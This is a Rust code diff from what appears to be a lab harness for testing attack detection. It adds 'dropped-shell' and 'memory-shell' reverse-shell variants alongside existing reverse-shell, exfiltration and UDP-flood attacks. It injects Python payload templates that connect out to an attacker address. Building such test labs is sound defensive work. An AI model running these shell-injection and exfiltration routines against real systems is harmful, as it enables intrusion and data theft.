@@ -38,6 +38,10 @@ pub enum Attack {
     CopyShell,
     /// A shell under the web service connects out.
     ReverseShell,
+    /// A shell copied to /tmp connects out from there.
+    DroppedShell,
+    /// A shell that runs from memory connects out.
+    MemoryShell,
     /// 200 MiB from the web service to a new peer.
     Exfiltrate,
     /// A UDP flood from the attacker at the service's closed ports.
@@ -73,9 +77,11 @@ pub struct Outcome {
 }
 
 impl Attack {
-    pub const ALL: [Self; 8] = [
+    pub const ALL: [Self; 10] = [
         Self::CopyShell,
         Self::ReverseShell,
+        Self::DroppedShell,
+        Self::MemoryShell,
         Self::Exfiltrate,
         Self::Flood,
         Self::ScanIn,
@@ -88,6 +94,8 @@ impl Attack {
         match self {
             Self::CopyShell => "copy-shell",
             Self::ReverseShell => "reverse-shell",
+            Self::DroppedShell => "dropped-shell",
+            Self::MemoryShell => "memory-shell",
             Self::Exfiltrate => "exfiltrate",
             Self::Flood => "flood",
             Self::ScanIn => "scan-in",
@@ -99,28 +107,29 @@ impl Attack {
 
     /// Attacks once. `limit` bounds what has no end of its own: shells and the flood.
     pub fn run(self, lab: &Lab, via: Via, limit: Duration) -> Result<Outcome> {
-        let (attacker, service) = (Site::Attacker.ipv4(), Site::Service.ipv4());
         match self {
             Self::CopyShell => copy_shell(lab, limit),
-            Self::ReverseShell => {
-                let recorder = Recorder::listen(lab, SHELL_PORT, limit, SHELL_TEXT)?;
-                let started_ns = now_ns();
-                inject(lab, &reverse_shell(via))?;
-                finish(started_ns, recorder)
+            Self::ReverseShell => shell_from(lab, &reverse_shell(via), limit),
+            Self::DroppedShell => {
+                let code = include_str!("python/dropped_shell.py")
+                    .replace("@FOLDER@", &lab.dropped().display().to_string());
+                shell_from(lab, &carried(via, &to_attacker(&code, SHELL_PORT)), limit)
+            }
+            Self::MemoryShell => {
+                let code = to_attacker(include_str!("python/memory_shell.py"), SHELL_PORT);
+                shell_from(lab, &carried(via, &code), limit)
             }
             Self::Exfiltrate => {
                 let recorder = Recorder::listen(lab, DROP_PORT, END_LIMIT, "")?;
                 let started_ns = now_ns();
-                let code = include_str!("python/exfiltrate.py")
-                    .replace("@PEER@", &attacker.to_string())
-                    .replace("@PORT@", &DROP_PORT.to_string())
+                let code = to_attacker(include_str!("python/exfiltrate.py"), DROP_PORT)
                     .replace("@MEBIBYTES@", &EXFILTRATED_MIB.to_string());
                 inject(lab, &carried(via, &code))?;
                 finish(started_ns, recorder)
             }
             Self::Flood => {
                 let code = include_str!("python/flood.py")
-                    .replace("@PEER@", &service.to_string())
+                    .replace("@PEER@", &Site::Service.ipv4().to_string())
                     .replace("@SECONDS@", &limit.as_secs_f64().to_string());
                 from_attacker(lab, &code)
             }
@@ -167,6 +176,18 @@ pub fn now_ns() -> i64 {
 fn finish(started_ns: i64, recorder: Recorder) -> Result<Outcome> {
     let transcript = recorder.finish()?;
     Ok(Outcome { started_ns, ended_ns: transcript.ended_ns, transcript: Some(transcript) })
+}
+
+/// Injects code that opens a shell to the attacker, and records what comes.
+fn shell_from(lab: &Lab, code: &str, limit: Duration) -> Result<Outcome> {
+    let recorder = Recorder::listen(lab, SHELL_PORT, limit, SHELL_TEXT)?;
+    let started_ns = now_ns();
+    inject(lab, code)?;
+    finish(started_ns, recorder)
+}
+
+fn to_attacker(code: &str, port: u16) -> String {
+    code.replace("@PEER@", &Site::Attacker.ipv4().to_string()).replace("@PORT@", &port.to_string())
 }
 
 fn shell_command() -> String {
